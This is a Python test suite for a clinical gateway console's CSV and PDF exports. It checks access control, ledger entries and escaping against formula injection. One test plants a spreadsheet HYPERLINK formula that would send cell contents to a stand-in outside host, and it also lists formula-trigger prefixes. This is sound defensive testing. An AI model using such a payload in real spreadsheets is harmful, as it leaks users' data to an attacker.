"""A table is taken away as CSV by whoever may see its page: whole, with an entry of the ledger, and never as a formula."""

import csv
import io
import json

import pypdf
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from consent.document import Table
from consent.lint import TEXTS
from gateway.console.paper import MOST, pdf_of
from gateway.console.routes import EXPORTED, EXPORTS, ROUTES
from gateway.spreadsheet import csv_of
from gateway.store.schema import consent, delivery, ledger_entry, message
from tests.console.site import ALEX, Answer, Site

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1", "\uff201")


def words_of(pdf: bytes) -> str:
    """What stands on paper, with lines and spaces made one."""
    return " ".join(" ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages).split())


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@given(st.lists(st.tuples(st.text(), st.sampled_from(FORMULAS)), max_size=5))
def test_no_cell_is_a_formula_and_no_cell_is_lost(rows: list[tuple[str, str]]) -> None:
    made = csv_of(Table(caption="c", columns=("One", "Two"), rows=tuple(rows))).decode("utf-8")
    back = read(made)
    assert back[0] == ["One", "Two"]
    for written, found in zip(rows, back[1:], strict=True):
        for cell, shown in zip(written, found, strict=True):
            kept = cell.encode("utf-8", "replace").decode()
            assert shown in (kept, f"'{kept}")
            assert not shown.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"))
    assert read("=1\r\n")[0][0].startswith("="), "sabotage: without the apostrophe it would be one"


def take(site: Site, name: str, path: str) -> Answer:
    answer = site.as_(name, "GET", f"{EXPORTS}{path}")
    assert answer.status == 200, path
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="throughgate-')
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    return answer


def exports(site: Site) -> list[dict[str, str]]:
    found = [json.loads(row.body) for row in site.rows(ledger_entry)]
    return [each["facts"] for each in found if each["event"] == "exported"]


def test_each_table_is_taken_away_whole_with_its_entry(site: Site) -> None:
    path = site.as_(
        "ines", "POST", "/console/disclosures", {"number": ALEX.nhs_number, "purpose": "audit", "reason": "yearly"}
    ).headers["location"]
    handle = path.rpartition("/")[2]
    assert site.as_("ines", "GET", f"{EXPORTS}disclosures/{handle}").status == 404, "nothing before a second person"
    assert site.as_("cleo", "POST", path, {"answer": "yes"}).status == 303
    assert site.as_("ivor", "GET", f"{EXPORTS}disclosures/{handle}").status == 404, "another's handle"
    before, held = len(exports(site)), site.ids(delivery, state="held")[0]
    own = [row.id for row in site.rows(delivery) if row.person_id == site.rows(delivery)[0].person_id]
    shows = {
        "work": [held, "someone may be without care"],
        "disclosures": ["ines", "cleo", "A planned audit"],
        f"disclosures/{handle}": [*own, "handover", "identifier-system"],
        "opened": ["Asked", "Times opened"],
        "flows": ["northfell", "handover"],
        "letters": site.ids(delivery),
        "letters?state=held": [held],
        "agreements": ["handover", "correction"],
        "proposals": ["handover", "in force since", "sha256:"],
        "health": ["throughgate_channel_silence_seconds", "throughgate_ledger_lag_entries"],
        "risk": ["Cells printed", "Belongs"],
        "search?state=held": site.ids(message, state="held"),
        "consents": site.ids(consent),
        "acts": ["logged-in", "search-approved", "ines"],
        "staff": ["gwen", "caldicott-guardian"],
    }
    pages = {route.path.removeprefix(EXPORTS).replace("{id}", handle) for route in ROUTES if route.takes}
    assert pages == {each.partition("?")[0] for each in shows}
    assert len(pages) == len(EXPORTED)
    for where, texts in shows.items():
        rows = read(take(site, "ines", where).text)
        assert len({len(row) for row in rows}) == 1, where
        text = "\n".join("\t".join(row) for row in rows)
        assert not [each for each in texts if each not in text], where
        assert ALEX.nhs_number not in text
        assert ALEX.family not in text
        page = site.as_("ines", "GET", f"/console/{where}").text
        joint = "&amp;" if "?" in where else "?"
        for form in ("csv", "pdf"):
            assert f'href="{EXPORTS}{where}{joint}form={form}"' in page, (where, form)
        paper = site.as_("ines", "GET", f"{EXPORTS}{where}{joint.replace('&amp;', '&')}form=pdf")
        assert (paper.status, paper.headers["content-type"], paper.text[:7]) == (200, "application/pdf", "%PDF-1."), (
            where
        )
    assert len(read(take(site, "ines", "letters?state=held").text)) == 1 + len(site.ids(delivery, state="held"))
    made = exports(site)[before:]
    assert len(made) == 2 * len(shows) + 1, "each file, of each form, is an entry of its own"
    assert {each["page"] for each in made} == {f"export-{name}" for name in EXPORTED}
    assert [each["about"] for each in made if "about" in each] == [handle, handle]
    assert len({each["staff"] for each in made}) == 1


def test_what_is_odd_about_a_consent_stands_beside_it(site: Site) -> None:
    odd = update(consent).where(consent.c.id == site.ids(consent)[0]).values(remarks="dangling-actor ends")
    assert TEXTS["dangling-actor"] not in site.as_("ines", "GET", "/console/consents").text
    site.line.gateway.store.write(lambda c: c.execute(odd))
    page = site.as_("ines", "GET", "/console/consents").text
    assert f"{TEXTS['dangling-actor']}; {TEXTS['ends']}".replace("'", "&#39;") in page
    assert "dangling-actor ends" in take(site, "ines", "consents").text


def test_a_table_goes_on_paper_with_its_entry(site: Site) -> None:
    before = len(exports(site))
    answer = site.as_("ines", "GET", f"{EXPORTS}letters?state=held&form=pdf")
    assert (answer.status, answer.headers["content-type"]) == (200, "application/pdf")
    assert answer.headers["content-disposition"] == 'attachment; filename="throughgate-letters.pdf"'
    assert answer.text.startswith("%PDF-1.")
    assert [each["page"] for each in exports(site)[before:]] == ["export-letters"]
    assert site.as_("ines", "GET", f"{EXPORTS}letters?form=xls").status == 404
    assert site.as_("ines", "GET", "/console/letters?form=pdf").status in (400, 404, 422)
    assert len(exports(site)) == before + 1


def test_what_is_on_paper_is_the_table_up_to_so_many_rows_and_says_so() -> None:
    """Read back by a tool that shares nothing with what printed it."""
    rows = tuple((f"row-{number}", "=1+1" if number else "\u6f22") for number in range(MOST + 1))
    made = pdf_of(
        Table(caption="Letters", columns=("Id", "What"), rows=rows), author="a", time="2026-01-15T12:00:00.000000Z"
    )
    text = words_of(made)
    assert f"{MOST} of {MOST + 1} rows" in text
    assert [f"Id: row-{number}" in text for number in (0, MOST - 1, MOST)] == [True, True, False]
    assert "What: =1+1" in text
    assert "[U+6F22]" in text


def test_a_hostile_cell_is_text(site: Site) -> None:
    """The last of the file: it spoils the rows."""
    hostile = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")\r\n"+1'

    def spoil(c: object) -> None:
        for column in (message.c.client, delivery.c.recipient, delivery.c.letter):
            c.execute(column.table.update().values({column.name: hostile}))  # type: ignore[attr-defined]  # a connection, in a test

    site.line.gateway.store.write(spoil)
    for where in ("letters", "flows"):
        rows = read(take(site, "ines", where).text)
        assert any(f"'{hostile}" in row for row in rows[1:]), where
        assert not [cell for row in rows for cell in row if cell.startswith("=")]
